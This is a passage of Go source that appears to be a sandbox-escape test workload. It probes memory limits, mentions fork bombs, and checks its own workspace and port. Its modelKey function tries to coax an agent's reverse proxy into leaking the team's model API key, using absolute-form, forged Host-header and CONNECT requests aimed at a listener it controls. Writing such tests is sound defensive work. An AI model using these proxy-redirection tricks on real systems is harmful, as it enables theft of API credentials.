		b, err := syscall.Mmap(-1, 0, chunk, syscall.PROT_READ|syscall.PROT_WRITE, syscall.MAP_PRIVATE|syscall.MAP_ANONYMOUS|syscall.MAP_POPULATE)
		if err != nil {
			fmt.Printf("mmap refused after %d: %v\n", held>>20, err)
			return 1
		}
		for i := 0; i < len(b); i += 4096 {
			b[i] = 1
		}
		held += chunk
		fmt.Println(held >> 20)
	}
	fmt.Printf("held %d MiB\n", held>>20)
	return 0
}

// runChild runs this binary with args and returns its output once it has ended. Its
// output is read to the end before it is waited for: a fork bomb leaves no thread to
// spare while it runs.
func runChild(args []string, ev map[string]string) (string, error) {
	self, err := os.Executable()
	if err != nil {
		self = "/proc/self/exe"
	}
	cmd := exec.Command(self, args...)
	var stderr bytes.Buffer
	cmd.Stderr = &stderr
	out, err := cmd.StdoutPipe()
	if err != nil {
		return "", err
	}
	if err := cmd.Start(); err != nil {
		return "", err
	}
	var lines []string
	sc := bufio.NewScanner(out)
	for sc.Scan() {
		lines = append(lines, sc.Text())
	}
	err = cmd.Wait()
	ev["stderr"] = stderr.String()
	return strings.Join(lines, "\n"), err
}

func lastLine(s string) string {
	s = strings.TrimSpace(s)
	if i := strings.LastIndexByte(s, '\n'); i >= 0 {
		return s[i+1:]
	}
	return s
}

// selfcheck checks that its own workspace and port work.
func selfcheck() []map[string]any {
	var out []map[string]any
	check := func(name string, err error) {
		out = append(out, map[string]any{"type": "works", "check": name, "ok": err == nil, "detail": errString(err)})
	}
	p := filepath.Join(workspace(), "selfcheck.txt")
	err := os.WriteFile(p, []byte("mine"), 0o600)
	if err == nil {
		var b []byte
		if b, err = os.ReadFile(p); err == nil && string(b) != "mine" {
			err = errors.New("read back " + string(b))
		}
	}
	check("workspace", err)
	c, err := net.DialTimeout("tcp", net.JoinHostPort(os.Getenv("HOST"), os.Getenv("PORT")), 2*time.Second)
	if err == nil {
		c.Close()
	}
	check("port", err)
	return out
}

// modelKey tries to learn the team's model key from the agent's reverse proxy, which
// adds it to every call: it asks the model API to echo what it was sent, sends the
// proxy absolute-form and Host-header requests naming a listener of its own, and
// makes an ordinary model call. It succeeds if its listener hears from the proxy; the
// test searches everything the calls answered (the evidence) for the key.
func modelKey(ev map[string]string) (bool, string) {
	base := os.Getenv("SANDGATE_UPSTREAM_MODEL_URL")
	if base == "" {
		return true, "no SANDGATE_UPSTREAM_MODEL_URL: the test deployed no model API, so this proves nothing"
	}
	c := httpClient()
	call := func(path, body string) string {
		req, _ := http.NewRequest("POST", base+path, strings.NewReader(body))
		req.Header.Set("X-Api-Key", "the-workload-has-no-key")
		req.Header.Set("Content-Type", "application/json")
		resp, err := c.Do(req)
		if err != nil {
			return err.Error()
		}
		defer resp.Body.Close()
		b, _ := io.ReadAll(io.LimitReader(resp.Body, 1<<16))
		var h strings.Builder
		_ = resp.Header.Write(&h)
		return fmt.Sprintf("%d\n%s\n%s", resp.StatusCode, h.String(), b)
	}
	ev["echo"] = call("/v1/echo", "{}")
	ev["model call"] = call("/v1/messages", `{"messages":[{"role":"user","content":"hi"}]}`)

	// A listener of its own, which the proxy must never call.
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return true, "listen: " + err.Error()
	}
	defer ln.Close()
	heard := make(chan string, 4)
	go func() {
		for {
			conn, err := ln.Accept()
			if err != nil {
				return
			}
			_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
			b, _ := io.ReadAll(io.LimitReader(conn, 1<<16))
			conn.Close()
			heard <- string(b)
		}
	}()
	own := ln.Addr().String()
	proxy := strings.TrimPrefix(base, "http://")
	for i, req := range []string{
		"POST http://" + own + "/v1/messages HTTP/1.1\r\nHost: " + own + "\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
		"POST /v1/messages HTTP/1.1\r\nHost: " + own + "\r\nX-Forwarded-Host: " + own + "\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{}",
		"CONNECT " + own + " HTTP/1.1\r\nHost: " + own + "\r\n\r\n",
	} {
		conn, err := net.DialTimeout("tcp", proxy, 2*time.Second)
		if err != nil {
			ev[fmt.Sprintf("raw request %d", i)] = err.Error()
			continue
		}
		_ = conn.SetDeadline(time.Now().Add(3 * time.Second))
		_, _ = io.WriteString(conn, req)
		b, _ := io.ReadAll(io.LimitReader(conn, 1<<16))
		conn.Close()
		ev[fmt.Sprintf("raw request %d", i)] = string(b)
	}
	select {
	case got := <-heard:
		ev["its own listener heard"] = got
		return true, "the proxy called the workload's own listener: " + lastLine(got)
	case <-time.After(time.Second):
	}
	status, _, _ := strings.Cut(ev["model call"], "\n")
	echoStatus, _, _ := strings.Cut(ev["echo"], "\n")
	return false, fmt.Sprintf("echo answered %s, a model call %s; the proxy never called the workload's own listener", echoStatus, status)
}
